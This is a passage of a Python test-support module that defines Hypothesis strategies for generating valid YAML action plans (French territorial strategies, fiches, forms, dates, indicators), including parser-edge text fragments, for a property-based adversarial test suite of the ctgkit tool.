"""Hypothesis strategies for the adversarial suite: valid plans as Python data, written to a
directory with ruamel.yaml, and mutations of the written files (text, bytes and data).

Profiles (``HYPOTHESIS_PROFILE``, default ``ci``):

- ``ci``: about 100 examples per property, no deadline; the whole adversarial suite stays
  around a minute on two cores.
- ``debug``: like ``ci``, but shrinks a failing example to a minimal one.
- ``long``: enough examples per property that the long run
  (``pytest -m long tests/test_adversarial_properties.py``) generates well over 20,000 cases.
"""

from __future__ import annotations

import copy
import datetime as dt
import io
import os
import re
import string
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st
from ruamel.yaml import YAML

from ctgkit.dates import MAX_YEAR, MIN_YEAR, PartialDate
from ctgkit.form import shipped_forms
from ctgkit.model import ACTOR_KINDS, FIELD_TYPES, PLAN_STATES, STANDARD_FIELDS, fold
from ctgkit.yaml_errors import INVISIBLE as _INVISIBLE

# ----------------------------------------------------------------------------- profiles

_HEALTH = [
    HealthCheck.function_scoped_fixture,
    HealthCheck.too_slow,
    HealthCheck.data_too_large,
    HealthCheck.large_base_example,
    HealthCheck.filter_too_much,
]
#: No shrinking by default: a failing plan with megabytes of mutated text can take minutes to
#: shrink. The failing example is printed (and replayed first on the next run); use the
#: ``debug`` profile to shrink it to a minimal one.
_NO_SHRINK = [Phase.explicit, Phase.reuse, Phase.generate, Phase.target]
#: In CI (CI=true) the examples are derived from each test, not drawn at random: a landing
#: must not depend on luck. Locally they are random, and the long run explores widely.
_IN_CI = bool(os.environ.get("CI"))
settings.register_profile(
    "ci",
    max_examples=100,
    deadline=None,
    suppress_health_check=_HEALTH,
    print_blob=True,
    phases=_NO_SHRINK,
    derandomize=_IN_CI,
    database=None if _IN_CI else settings.default.database,
)
settings.register_profile("debug", parent=settings.get_profile("ci"), phases=list(Phase))
#: Examples per property in the long run; the long test runs several properties with it.
LONG_EXAMPLES = 5_200
settings.register_profile("long", parent=settings.get_profile("ci"), max_examples=LONG_EXAMPLES)
settings.load_profile(os.environ.get("HYPOTHESIS_PROFILE", "ci"))

# ----------------------------------------------------------------------------- text

ACCENTS = "éèêëàâäîïôöùûüçœæÉÈÊÀÂÎÔÙÛÇŒÆ«»’"
#: Pieces of text real plans hold, and pieces that break naive YAML, Markdown or HTML.
FRAGMENTS = [
    "Île-de-France",
    "l'accès",
    "l’enfance",
    "« guillemets »",
    '"double"',
    "'simple'",
    "deux-points : ici",
    "a: b",
    "clé:valeur",
    "- tiret",
    "# dièse",
    "#hashtag",
    "**gras**",
    "*italique*",
    "_souligné_",
    "`code`",
    "[lien](https://example.org/a?b=1&c=2)",
    "<https://example.org>",
    "> citation",
    "1. liste",
    "| a | b |",
    "&amp;",
    "&#x27;",
    "&#128;",
    "&#0;",
    "&nbsp;",
    "{{ x }}",
    "{% raw %}",
    "{#",
    "%",
    "@",
    "!",
    "?",
    "—",
    "–",
    "…",
    "😀",
    "中文",
    "العربية",
    "\u00a0",
    "~",
    "\\",
    "*",
    "[",
    "]",
    "{",
    "}",
    "&",
    "null",
    "true",
    "no",
    "yes",
    "0x1F",
    "1e3",
    "2020",
    ".5",
    "---",
    "...",
    "|",
    ">",
    "<",
    "<b>",
    "</p>",
    "x < y > z",
    "é\u0301",
    "\u200b",
    "\u2028",
    "a\u2029b",
    "\ufeff",
    "ﬁ",
    "ß",
    "İ",
    "Œuvre",
    "n°3",
    "100 %",
    "1/2",
    "C:\\dossier",
    "../x",
    "$HOME",
    "\\n",
    "!!str",
    "&ancre",
    "*étoile",
    "? question",
]
_WORD_ALPHABET = string.ascii_letters + string.digits + ACCENTS
#: Every assigned, non-control, non-private code point (precomputed: drawing from a list is
#: much faster than st.characters with category filters).
_UNICODE = [
    chr(code)
    for code in range(0x20, 0x30000)
    if unicodedata.category(chr(code)) not in {"Cc", "Cs", "Co", "Cn"}
]
_unicode = st.sampled_from(_UNICODE)
#: Ordinary words (drawn in one step: generating text character by character is slow).
WORDS = (
    "Développer l'accueil des jeunes enfants Soutenir la parentalité Accès aux droits "
    "Créer un café des parents Forum des habitants élaboré Œuvrer à l’inclusion numérique "
    "sécurité Île été garçon naïf coût forêt crèche CAF CCAS MSA PMI RPE EVS ALSH ARS "
    "Comité de pilotage Communauté Communes Caisse d'Allocations Familiales 2019 2024 n°12"
).split()
word = st.one_of(
    st.sampled_from(WORDS),
    st.sampled_from(FRAGMENTS),
    st.sampled_from(_UNICODE),
    st.text(st.sampled_from(_WORD_ALPHABET), min_size=1, max_size=10),
    st.text(_unicode, min_size=1, max_size=4),
)


def line_text(min_words: int = 1, max_words: int = 5) -> st.SearchStrategy[str]:
    """One line of text (no line break), never blank."""
    return (
        st.lists(word, min_size=min_words, max_size=max_words)
        .map(" ".join)
        .map(lambda text: text.replace("\n", " ").replace("\r", " "))
        .filter(lambda text: text.strip() != "")
    )


@st.composite
def markdown_text(draw: st.DrawFn, max_lines: int = 5) -> str:
    """A few lines of Markdown: paragraphs, lists, headings, quotes, fences, tables."""
    lines = []
    for _ in range(draw(st.integers(1, max_lines))):
        prefix = draw(
            st.sampled_from(["", "", "", "- ", "* ", "1. ", "# ", "## ", "### ", "> ", "    "])
        )
        lines.append(prefix + draw(line_text()))
        if draw(st.integers(0, 9)) == 0:
            lines += ["```", draw(line_text()), "```"]
        if draw(st.integers(0, 12)) == 0:
            lines += ["| a | b |", "|---|---|", "| " + draw(line_text()) + " | x |"]
    separator = draw(st.sampled_from(["\n", "\n\n"]))
    return separator.join(lines)


def short_text() -> st.SearchStrategy[str]:
    return line_text(1, 4)


# ----------------------------------------------------------------------------- forms

#: The Vienne 2019 form as ctgkit ships it: its grid, choices and participation lines are
#: read from the form, the one source of truth.
_VIENNE = shipped_forms()[fold("vienne-2019")]
_VIENNE_FIELDS = {f.key: f for f in _VIENNE.fields}
IMPACT_GROUPS: dict[str, list[str]] = _VIENNE_FIELDS["impacts"].groups
DURATION_KINDS: tuple[str, ...] = tuple(_VIENNE_FIELDS["durée"].choices)
STATUSES: tuple[str, ...] = tuple(_VIENNE_FIELDS["cette_action_est"].choices)
PARTICIPATION_LINES: tuple[str, ...] = tuple(
    line.key for line in _VIENNE_FIELDS["participation"].lines
)
#: Standard fields each shipped form has, by form name.
FORM_KEYS: dict[str, set[str]] = {
    form.name: {f.key for f in form.fields} for form in shipped_forms().values()
}
#: Standard fields a plan may add to a shipped form by name (no type).
ADDABLE = ["public", "communes", "périmètre", "budget", "moyens", "notes", "lacunes"]
#: Words for the keys of a plan's own fields (lowercase French, accents kept).
KEY_WORDS = [
    "public", "cible", "coût", "estimé", "référent", "année", "de", "lancement", "priorité",
    "thématiques", "zones", "financé", "grille", "partenariale", "œuvre", "été", "2024",
    "x1", "équipe", "lieu", "accès", "âge", "niveau",
    "ete", "acces", "equipe", "age",  # fold like été, accès…: still distinct keys
]  # fmt: skip


def _fold_stable_upper(text: str) -> str:
    """``text`` in capitals when that folds back to the same label, else ``text``."""
    upper = text.upper()
    return upper if fold(upper) == fold(text) else text


# ----------------------------------------------------------------------------- plans


@dataclass
class PlanSpec:
    """A plan as data: plan.yaml, fiches (file name -> data) and other text files."""

    plan: dict[str, Any]
    fiches: dict[str, dict[str, Any]] = field(default_factory=dict)
    texts: dict[str, str] = field(default_factory=dict)  # relative path -> Markdown
    width: int = 80  # ruamel line width used when writing

    def files(self) -> list[str]:
        return ["plan.yaml", *(f"fiches/{name}" for name in self.fiches), *self.texts]


#: Code segments: digits, letters (both cases on purpose), mixed.
SEGMENTS = [str(n) for n in range(1, 13)] + list("abcdefgh") + ["A", "B", "IV", "x1", "02"]
#: Prefixes that no generated code starts with (so canonical codes stay unique).
PREFIXES = ["P.", "AXE.", "Z."]


@dataclass
class _Node:
    segments: tuple[str, ...]
    title: str
    children: list[_Node]
    data: dict[str, Any]
    transcribed: bool = True  # False: childless, untitled, recorded in `lacunes`

    @property
    def code(self) -> str:
        return ".".join(self.segments)


@st.composite
def _tree(draw: st.DrawFn, depth: int, parent: tuple[str, ...], budget: list[int]) -> list[_Node]:
    count = draw(st.integers(1, 4 if not parent else 3))
    segments = draw(
        st.lists(st.sampled_from(SEGMENTS), min_size=count, max_size=count, unique=True)
    )
    nodes = []
    for segment in segments:
        budget[0] -= 1
        path = (*parent, segment)
        title = draw(line_text(1, 6))
        data: dict[str, Any] = {}
        if draw(st.integers(0, 4)) == 0:
            data["thème"] = draw(short_text())
        if draw(st.integers(0, 4)) == 0:
            data["description"] = draw(markdown_text(3))
        if draw(st.integers(0, 3)) == 0:
            data["pistes"] = draw(st.lists(line_text(), min_size=0, max_size=3))
        if draw(st.integers(0, 5)) == 0:
            data["code_éditorial"] = draw(st.booleans())
        branch = depth > 1 and budget[0] > 0 and draw(st.integers(0, 5)) > 0
        children = draw(_tree(depth - 1, path, budget)) if branch else []
        nodes.append(_Node(path, title, children, data))
    return nodes


def _walk(nodes: list[_Node], ancestors: tuple[_Node, ...] = ()):
    for node in nodes:
        yield node, ancestors
        yield from _walk(node.children, (*ancestors, node))


def _tree_depth(nodes: list[_Node]) -> int:
    return max((1 + _tree_depth(n.children) for n in nodes), default=0)


@dataclass(frozen=True)
class Dated:
    """A date as a plan writes it (``value``) and the days it can mean."""

    value: Any
    first: dt.date
    last: dt.date


@st.composite
def dates(draw: st.DrawFn, low: int = MIN_YEAR, high: int = MAX_YEAR) -> Dated:
    """A year, a month or a day between ``low`` and ``high``, in every spelling plans use:
    2024, "2024", 2024-09, 2024-9, 2024-09-30 (a YAML date or text)."""
    year = draw(st.integers(low, high))
    precision = draw(st.sampled_from(["year", "year", "month", "day"]))
    if precision == "year":
        date = PartialDate(year)
        value = draw(st.sampled_from([year, str(year)]))
    elif precision == "month":
        month = draw(st.integers(1, 12))
        date = PartialDate(year, month)
        value = draw(st.sampled_from([f"{year}-{month:02d}", f"{year}-{month}"]))
    else:
        day = draw(st.dates(dt.date(year, 1, 1), dt.date(year, 12, 31)))
        date = PartialDate(year, day.month, day.day)
        value = draw(st.sampled_from([day, day.isoformat()]))
    return Dated(value, date.first_day(), date.last_day())


@st.composite
def date_range(draw: st.DrawFn, low: int, high: int) -> tuple[Dated, Dated]:
    """Two dates in order: the second does not end before the first starts."""
    first, second = sorted([draw(dates(low, high)), draw(dates(low, high))], key=lambda d: d.first)
    return first, second


@st.composite
def plan_states(draw: st.DrawFn) -> Any:
    """`état`: the shorthand (any case, with or without accents) or {valeur, date}."""
    state = draw(st.sampled_from(PLAN_STATES))
    spelled = draw(st.sampled_from([state, state.capitalize(), state.upper(), fold(state)]))
    if draw(st.booleans()):
        return spelled
    out: dict[str, Any] = {"valeur": spelled}
    if draw(st.booleans()):
        out["date"] = draw(dates()).value
    return out


@st.composite
def actor_registries(draw: st.DrawFn) -> list[dict[str, Any]]:
    """`acteurs`: names, sigles, other names and kinds."""
    actors = []
    for _ in range(draw(st.integers(1, 5))):
        actor: dict[str, Any] = {"nom": draw(short_text())}
        if draw(st.booleans()):
            actor["sigle"] = draw(st.text(string.ascii_uppercase, min_size=2, max_size=6))
        if draw(st.booleans()):
            actor["autres_noms"] = draw(st.lists(short_text(), max_size=3))
        if draw(st.booleans()):
            kind = draw(st.sampled_from(ACTOR_KINDS))
            actor["type"] = draw(st.sampled_from([kind, _fold_stable_upper(kind), fold(kind)]))
        actors.append(actor)
    return actors


def _actor_names(actors: list[dict[str, Any]]) -> list[str]:
    return [
        name
        for actor in actors
        for name in (actor["nom"], actor.get("sigle"), *actor.get("autres_noms", []))
        if name
    ]


# ----------------------------------------------------------------------------- own fields


@dataclass
class OwnField:
    """A field a plan adds to its form: its definition and a strategy of valid values."""

    definition: dict[str, Any]
    values: st.SearchStrategy[Any]

    @property
    def key(self) -> str:
        return self.definition["nom"]

    @property
    def required(self) -> bool:
        return bool(self.definition.get("obligatoire"))


def _labels(min_size: int = 1, max_size: int = 4) -> st.SearchStrategy[list[str]]:
    """Distinct labels (a choice list, the groups of a grid): distinct once folded."""
    return st.lists(
        short_text().filter(lambda text: fold(text) != ""),
        min_size=min_size,
        max_size=max_size,
        unique_by=fold,
    )


def own_keys() -> st.SearchStrategy[str]:
    """Keys of a plan's own fields: lowercase French words joined by `_`."""
    return (
        st.lists(st.sampled_from(KEY_WORDS), min_size=1, max_size=3)
        .map("_".join)
        .filter(lambda key: key not in STANDARD_FIELDS and not key[0].isdigit())
    )


def _spelled(choice: str) -> st.SearchStrategy[str]:
    """A choice as people type it: as printed, or in capitals."""
    return st.sampled_from([choice, _fold_stable_upper(choice)])


@st.composite
def own_fields(draw: st.DrawFn, kind: str | None = None) -> OwnField:
    """A field of a plan's own form, of ``kind`` (any type when None), with valid values."""
    kind = kind or draw(st.sampled_from(FIELD_TYPES))
    definition: dict[str, Any] = {"nom": draw(own_keys())}
    written = draw(st.sampled_from([kind, kind, kind.capitalize(), kind.upper()]))
    definition["type"] = written
    if draw(st.booleans()):
        definition["libellé"] = draw(line_text(1, 6))
    if draw(st.integers(0, 2)) == 0:
        definition["aide"] = draw(line_text(1, 8))
    if draw(st.integers(0, 3)) == 0:
        definition["obligatoire"] = True
    values: st.SearchStrategy[Any]
    if kind == "texte":
        values = st.one_of(short_text(), st.integers(0, 10**6))
    elif kind == "markdown":
        values = markdown_text(3)
    elif kind == "liste":
        values = st.lists(short_text(), max_size=4)
    elif kind in ("nombre", "montant"):
        values = st.one_of(
            st.integers(-(10**9), 10**9),
            st.floats(-1e9, 1e9, allow_nan=False, allow_infinity=False),
        )
    elif kind == "date":
        values = dates().map(lambda d: d.value)
    elif kind == "oui/non":
        values = st.sampled_from([True, False, None, "oui", "non", "OUI", "NON", "x"])
    elif kind == "choix":
        choices = draw(_labels())
        definition["choix"] = choices
        values = st.sampled_from(choices).flatmap(_spelled)
    elif kind == "choix multiples" and draw(st.booleans()):
        choices = draw(_labels())
        definition["choix"] = choices
        values = st.lists(st.sampled_from(choices), max_size=len(choices), unique=True)
    elif kind == "choix multiples":
        groups = draw(_labels(1, 3))
        items = draw(_labels(len(groups), 3 * len(groups) + 1))
        grid = {group: items[i :: len(groups)] for i, group in enumerate(groups)}
        definition["groupes"] = grid
        values = st.lists(st.sampled_from(groups), min_size=1, unique=True).flatmap(
            lambda chosen: st.fixed_dictionaries(
                {
                    group: st.lists(st.sampled_from(grid[group]), unique=True).flatmap(
                        lambda ticked: (
                            st.just([_fold_stable_upper(t) for t in ticked]) | st.just(ticked)
                        )
                    )
                    for group in chosen
                }
            )
        )
    else:  # grille oui/non
        keys = draw(st.lists(own_keys(), min_size=1, max_size=4, unique=True))
        definition["lignes"] = [
            {"nom": key, **({"libellé": draw(short_text())} if draw(st.booleans()) else {})}
            for key in keys
        ]
        yes_no = st.sampled_from([True, False, None, "oui", "NON"])
        values = st.fixed_dictionaries({}, optional={key: yes_no for key in keys})
    return OwnField(definition, values)


@st.composite
def forms(draw: st.DrawFn) -> tuple[Any, set[str], list[OwnField]]:
    """`formulaire` (absent, a name, or {base, champs}), the standard keys its fiches may
    use, and the plan's own fields."""
    how = draw(st.sampled_from(["absent", "name", "own", "own"]))
    base = draw(st.sampled_from(["général", "vienne-2019"]))
    standard = set(FORM_KEYS[base])
    if how == "absent":
        return None, set(FORM_KEYS["général"]), []
    if how == "name":
        return draw(st.sampled_from([base, base.capitalize()])), standard, []
    champs: list[dict[str, Any]] = []
    own: list[OwnField] = []
    for _ in range(draw(st.integers(0, 6))):
        if draw(st.integers(0, 3)) == 0:
            # A standard field: added to the base, or re-labelled. (The base form's own
            # fields, such as vienne-2019's `durée`, cannot be re-labelled by a plan.)
            key = draw(st.sampled_from(sorted((standard & set(STANDARD_FIELDS)) | set(ADDABLE))))
            if key in {f["nom"] for f in champs}:
                continue
            definition: dict[str, Any] = {"nom": key}
            if draw(st.booleans()):
                definition["libellé"] = draw(line_text(1, 5))
            champs.append(definition)
            standard.add(key)
            continue
        made = draw(own_fields())
        if made.key in {f["nom"] for f in champs}:
            continue  # the same key twice is an error (CTG008); own_form_plans tries it
        champs.append(made.definition)
        own.append(made)
    spec: dict[str, Any] = {"champs": champs}
    if base != "général" or draw(st.booleans()):
        spec["base"] = base
    return spec, standard, own


@st.composite
def plan_specs(draw: st.DrawFn) -> PlanSpec:
    """A valid plan (no diagnostics at all): tree of 1-4 levels, fiches citing leaves, on a
    shipped form or the plan's own."""
    levels_count = draw(st.integers(1, 4))
    tree = draw(_tree(levels_count, (), [draw(st.integers(3, 16))]))
    depth = _tree_depth(tree)
    prefix = draw(st.sampled_from([None, None, *PREFIXES]))
    # Some leaves are « non transcrit »: no titre, recorded in `lacunes` (never all of them).
    all_leaves = [node for node, _ in _walk(tree) if not node.children]
    for node in all_leaves[1:]:
        if draw(st.integers(0, 6)) == 0:
            node.transcribed = False

    written: dict[tuple[str, ...], str] = {}

    def code_of(node: _Node, variant: bool = False) -> str:
        if node.segments not in written:
            use = prefix is not None and draw(st.booleans())
            written[node.segments] = (prefix if use else "") + node.code
        code = written[node.segments]
        if variant and prefix is not None and draw(st.integers(0, 3)) == 0:
            # With a préfixe_code, fiches may add or drop it.
            code = code[len(prefix) :] if code.startswith(prefix) else prefix + code
        if variant and draw(st.integers(0, 9)) == 0:
            code = f" {code} "  # surrounding spaces are tolerated
        return code

    def node_data(node: _Node) -> dict[str, Any]:
        data: dict[str, Any] = {"code": code_of(node)}
        if node.transcribed:
            data["titre"] = node.title
        data.update(node.data)
        if node.children:
            data["enfants"] = [node_data(child) for child in node.children]
        return data

    strategy = [node_data(node) for node in tree]
    period: tuple[int, int] | None = None
    if draw(st.integers(0, 4)) > 0:
        start = draw(st.integers(MIN_YEAR, MAX_YEAR))
        period = (start, draw(st.integers(start, min(MAX_YEAR, start + 8))))
    programmes = draw(
        st.lists(
            st.fixed_dictionaries(
                {"nom": short_text()},
                optional={
                    "sigle": st.text(string.ascii_uppercase, min_size=2, max_size=5),
                    "description": markdown_text(3),
                    "axes": st.lists(line_text(), max_size=3),
                    "url": st.sampled_from(["https://example.org/cls", "http://a.b/c?d=e&f"]),
                },
            ),
            max_size=3,
        )
    )
    texts: dict[str, str] = {}
    sections = []
    for index in range(draw(st.integers(0, 3))):
        section: dict[str, Any] = {"titre": draw(short_text())}
        if draw(st.booleans()):
            name = draw(
                st.sampled_from(
                    ["narrative/{}.md", "{}.md", "narrative/sub/{}.md", "narrative/été-{}.md"]
                )
            ).format(index)
            texts[name] = draw(markdown_text(6))
            section["fichier"] = name
        elif draw(st.booleans()):
            section["texte"] = draw(markdown_text(4))
        sections.append(section)

    plan: dict[str, Any] = {
        "format": 2,
        "titre": draw(line_text(1, 8)),
        "territoire": draw(
            st.fixed_dictionaries(
                {"nom": short_text()},
                optional={
                    "sigle": st.text(string.ascii_uppercase, min_size=2, max_size=6),
                    "département": short_text(),
                    "nombre_communes": st.integers(1, 400),
                    "population": short_text(),
                },
            )
        ),
        "niveaux": [
            draw(st.fixed_dictionaries({"nom": short_text()}, optional={"pluriel": short_text()}))
            for _ in range(max(depth, draw(st.integers(depth, depth + 1))))
        ],
        "stratégie": strategy,
    }
    if period is not None:
        plan["période"] = {"début": period[0], "fin": period[1]}
    optional: dict[str, st.SearchStrategy[Any]] = {
        "sous_titre": line_text(),
        "langue": st.sampled_from(["fr", "en"]),
        "état": plan_states(),
        "génération": st.integers(1, 5),
        "précédent": st.sampled_from(["civraisien-2019", "plan-précédent", None]),
        "codes_éditoriaux": st.booleans(),
        "signataires": st.lists(
            st.fixed_dictionaries(
                {"nom": short_text()}, optional={"sigle": short_text(), "rôle": short_text()}
            ),
            max_size=3,
        ),
        "gouvernance": st.lists(
            st.fixed_dictionaries(
                {"nom": short_text()},
                optional={"rôle": short_text(), "membres": line_text(), "fréquence": short_text()},
            ),
            max_size=3,
        ),
        "chiffres_clés": st.lists(
            st.fixed_dictionaries(
                {
                    "valeur": st.one_of(short_text(), st.integers(0, 10**6).map(str)),
                    "libellé": short_text(),
                }
            ),
            max_size=3,
        ),
        "swot": st.lists(
            st.fixed_dictionaries(
                {"thème": short_text()},
                optional={
                    k: st.lists(line_text(), max_size=3)
                    for k in ("forces", "faiblesses", "opportunités", "menaces")
                },
            ),
            max_size=3,
        ),
        "chronologie": st.lists(
            st.fixed_dictionaries(
                {"texte": markdown_text(2)}, optional={"quand": short_text(), "phase": short_text()}
            ),
            max_size=3,
        ),
        "lacunes": st.lists(
            st.fixed_dictionaries(
                {"note": line_text()}, optional={"code": st.sampled_from(SEGMENTS)}
            ),
            max_size=2,
        ),
    }
    for key, strat in optional.items():
        if draw(st.booleans()):
            plan[key] = draw(strat)
    untranscribed = [node for node in all_leaves if not node.transcribed]
    if untranscribed:
        gaps = plan.setdefault("lacunes", [])
        for node in untranscribed:
            gaps.insert(
                draw(st.integers(0, len(gaps))),
                {"code": code_of(node, variant=True).strip(), "note": draw(line_text())},
            )
        # A gap on a node that has a titre is a note on it; a gap on no node is allowed too.
    if programmes:
        plan["programmes"] = programmes
    if sections:
        plan["sections"] = sections
    if prefix is not None:
        plan["préfixe_code"] = prefix
    actors = draw(actor_registries()) if draw(st.booleans()) else []
    if actors:
        plan["acteurs"] = actors
    form, keys, own = draw(forms())
    if form is not None:
        plan["formulaire"] = form

    # ------------------------------------------------------------------ fiches
    leaves = [
        (node, ancestors)
        for node, ancestors in _walk(tree)
        if not node.children and node.transcribed
    ]
    numbers = draw(
        st.lists(
            st.one_of(st.integers(1, 60), st.sampled_from(["12bis", "4 ter", "07", "A3", "10"])),
            max_size=5,
            unique_by=lambda n: str(n).strip(),
        )
    )
    names = _actor_names(actors)
    actor_names = st.sampled_from(names).flatmap(_spelled) if names else short_text()
    low, high = period if period is not None else (MIN_YEAR, MAX_YEAR)
    fiches: dict[str, dict[str, Any]] = {}
    for position, number in enumerate(numbers):
        chosen = draw(
            st.lists(st.sampled_from(range(len(leaves))), min_size=1, max_size=4, unique=True)
        )
        cited = [leaves[i] for i in chosen]
        objectives: list[Any] = []
        for node, _ in cited:
            code = code_of(node, variant=True)
            if draw(st.integers(0, 3)) == 0:
                objectives.append({"code": code, "texte": node.title})
            else:
                objectives.append(code)
        fiche: dict[str, Any] = {
            "numéro": number,
            "titre": draw(line_text(1, 8)),
            "objectifs": objectives,
        }
        axes = {a[0].segments: a[0] for _, a in cited if len(a) >= 1}
        strategic = {a[1].segments: a[1] for _, a in cited if len(a) >= 2}
        if axes and draw(st.booleans()):
            fiche["axes"] = [code_of(node, variant=True) for node in axes.values()]
        if strategic and draw(st.booleans()):
            fiche["objectifs_stratégiques"] = [code_of(n, variant=True) for n in strategic.values()]
        if draw(st.integers(0, 5)) == 0:
            fiche["numéro_éditorial"] = draw(st.booleans())
        if draw(st.booleans()):
            fiche["description"] = draw(markdown_text(4))
        for key in ("pilotes", "partenaires"):
            if draw(st.booleans()):
                fiche[key] = draw(st.lists(actor_names, max_size=3))
        if draw(st.booleans()):
            fiche["évaluation"] = draw(st.lists(short_text(), max_size=3))
        if draw(st.booleans()):
            first, last = draw(date_range(low, high))
            fiche["début"] = first.value
            if draw(st.booleans()):
                fiche["fin"] = last.value
        elif draw(st.booleans()):
            fiche["fin"] = draw(dates(low, high)).value
        if draw(st.booleans()):
            fiche["étapes"] = draw(_steps(3))
        if draw(st.booleans()):
            fiche["indicateurs"] = draw(st.lists(_indicator(low, high), max_size=3))
        others = [n for n in numbers if n != number]
        if others and draw(st.booleans()):
            fiche["fiches_liées"] = draw(st.lists(st.sampled_from(others), max_size=2, unique=True))
        if draw(st.booleans()):
            fiche["documents"] = draw(st.lists(_document(programmes), max_size=2))
        # Fields some forms have: each only where the plan's form has it.
        by_form: dict[str, st.SearchStrategy[Any]] = {
            "durée": st.sampled_from([*DURATION_KINDS, "Pluriannuelle"]),
            "cette_action_est": st.sampled_from(
                [*STATUSES, "DEJA ENGAGEE", "en cours d’élaboration"]
            ),
            "impacts": _impacts(),
            "participation": st.fixed_dictionaries(
                {},
                optional={
                    line: st.sampled_from([True, False, None, "oui", "NON", "x"])
                    for line in PARTICIPATION_LINES
                },
            ),
            "public": markdown_text(2),
            "communes": st.lists(short_text(), max_size=4),
            "périmètre": short_text(),
            "budget": st.lists(_budget_line(names), max_size=3),
            "moyens": markdown_text(3),
            "notes": markdown_text(3),
            "lacunes": st.lists(
                st.fixed_dictionaries(
                    {"note": line_text()},
                    optional={"champ": st.sampled_from(sorted(keys | {f.key for f in own}))},
                ),
                max_size=2,
            ),
        }
        for key, strat in by_form.items():
            if key in keys and draw(st.booleans()):
                fiche[key] = draw(strat)
        for made in own:
            if made.required or draw(st.booleans()):
                fiche[made.key] = draw(made.values)
        slug = re.sub(r"[^a-z0-9]+", "-", str(number).lower()).strip("-") or "x"
        extension = draw(st.sampled_from([".yaml", ".yaml", ".yml"]))
        fiches[f"{position:02d}-{slug}{extension}"] = fiche
    width = draw(st.sampled_from([80, 80, 40, 4096]))
    return PlanSpec(plan, fiches, texts, width)


def _budget_line(funders: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries(
        {"financeur": st.sampled_from(funders) if funders else short_text()},
        optional={
            "montant": st.one_of(
                st.integers(0, 10**7), st.floats(0, 1e7, allow_nan=False, allow_infinity=False)
            ),
            "nature": short_text(),
        },
    )


@st.composite
def _impacts(draw: st.DrawFn) -> dict[str, list[str]]:
    groups = draw(
        st.lists(st.sampled_from(list(IMPACT_GROUPS)), min_size=1, max_size=3, unique=True)
    )
    out: dict[str, list[str]] = {}
    for group in groups:
        items = draw(st.lists(st.sampled_from(IMPACT_GROUPS[group]), max_size=3, unique=True))
        if draw(st.integers(0, 4)) == 0:  # matching ignores case and accents
            items = [item.upper() for item in items]
        out[group.lower() if draw(st.integers(0, 4)) == 0 else group] = items
    return out


def _steps(depth: int) -> st.SearchStrategy[list[Any]]:
    bare = line_text()
    if depth <= 1:
        full = st.fixed_dictionaries({"texte": markdown_text(2)}, optional={"numéro": short_text()})
    else:
        full = st.fixed_dictionaries(
            {"texte": markdown_text(2)},
            optional={
                "numéro": st.sampled_from(["1", "2.1", "a", "A)", "•", "10", " ", "1 "]),
                "étapes": st.deferred(lambda: _steps(depth - 1)),
            },
        )
    return st.lists(st.one_of(bare, full), min_size=1, max_size=3)


_number = st.one_of(
    st.integers(-(10**6), 10**6),
    st.floats(allow_nan=False, allow_infinity=False, width=32),
    short_text(),
)


def _indicator(low: int = MIN_YEAR, high: int = MAX_YEAR) -> st.SearchStrategy[Any]:
    """A bare label, a numeric series (numbers only: text there is CTG061), or a qualitative
    one (`unité: texte`, any value); measures dated within the plan's period (CTG060)."""
    numeric = st.one_of(
        st.integers(-(10**6), 10**6), st.floats(allow_nan=False, allow_infinity=False, width=32)
    )

    def series(required: dict[str, Any], units: list[str], value: Any) -> Any:
        return st.fixed_dictionaries(
            {"libellé": line_text(), **required},
            optional={
                **({} if required else {"unité": st.sampled_from(units)}),
                "valeur_référence": value,
                "cible": value,
                "mesures": st.lists(
                    st.fixed_dictionaries(
                        {"date": dates(low, high).map(lambda d: d.value), "valeur": value},
                        optional={"commentaire": short_text(), "source": short_text()},
                    ),
                    max_size=2,
                ),
            },
        )

    return st.one_of(
        line_text(),
        series({}, ["%", "personnes", "€", "h/an"], numeric),
        series({"unité": st.sampled_from(["texte", "qualitatif"])}, [], _number),
    )


def _document(programmes: list[dict[str, Any]]) -> st.SearchStrategy[dict[str, Any]]:
    names = [p.get("sigle") or p["nom"] for p in programmes]
    optional: dict[str, st.SearchStrategy[Any]] = {
        "référence": short_text(),
        "titre": short_text(),
        "url": st.sampled_from(
            ["https://example.org/doc.pdf", "mailto:a@b.fr", "ftp://x", "doc.pdf"]
        ),
    }
    if names:
        optional["programme"] = st.sampled_from(names)
    return st.fixed_dictionaries({}, optional=optional)


# ----------------------------------------------------------------------------- writing

_dumpers: dict[int, YAML] = {}


def _long_key(data: Any, width: int, depth: int = 0) -> bool:
    """Whether a mapping key of ``data`` with a space could reach the line width."""
    if isinstance(data, dict):
        return any(
            (isinstance(key, str) and " " in key and 4 * depth + len(key) + 2 >= width)
            or _long_key(value, width, depth + 1)
            for key, value in data.items()
        )
    if isinstance(data, list):
        return any(_long_key(item, width, depth + 1) for item in data)
    return False


#: A text that, written without quotes, would look like a list dash or a key followed by an
#: invisible character (`- -\u00a0x`): ctg refuses those on purpose (a person meant a list
#: item or a key), so a person writing such a text quotes it, and so does this generator.
_LOOKS_LIKE_SYNTAX = re.compile("(?:-|[^\\s:]+:)[" + "".join(_INVISIBLE) + "]")


def _represent_text(representer: Any, data: str) -> Any:
    style = '"' if _LOOKS_LIKE_SYNTAX.match(data) else None
    return representer.represent_scalar("tag:yaml.org,2002:str", data, style=style)


def dump_yaml(data: Any, width: int = 80) -> str:
    if _long_key(data, width):
        # ruamel.yaml (0.19) folds a long plain key over two lines, which no parser reads
        # back: write such a document without folding.
        width = 1_000_000
    yaml = _dumpers.get(width)
    if yaml is None:
        yaml = YAML(typ="safe", pure=True)
        yaml.default_flow_style = False
        yaml.allow_unicode = True
        yaml.width = width
        # Shared objects are written out in full: anchors and aliases are refused in plans.
        yaml.representer.ignore_aliases = lambda data: True
        yaml.representer.add_representer(str, _represent_text)
        _dumpers[width] = yaml
    buffer = io.StringIO()
    yaml.dump(data, buffer)
    return buffer.getvalue()


def write_plan(spec: PlanSpec, root: Path) -> Path:
    """Write ``spec`` as a plan directory ``root`` (created)."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "plan.yaml").write_text(dump_yaml(spec.plan, spec.width), encoding="utf-8")
    if spec.fiches:
        (root / "fiches").mkdir(exist_ok=True)
    for name, fiche in spec.fiches.items():
        (root / "fiches" / name).write_text(dump_yaml(fiche, spec.width), encoding="utf-8")
    for name, text in spec.texts.items():
        path = root / name
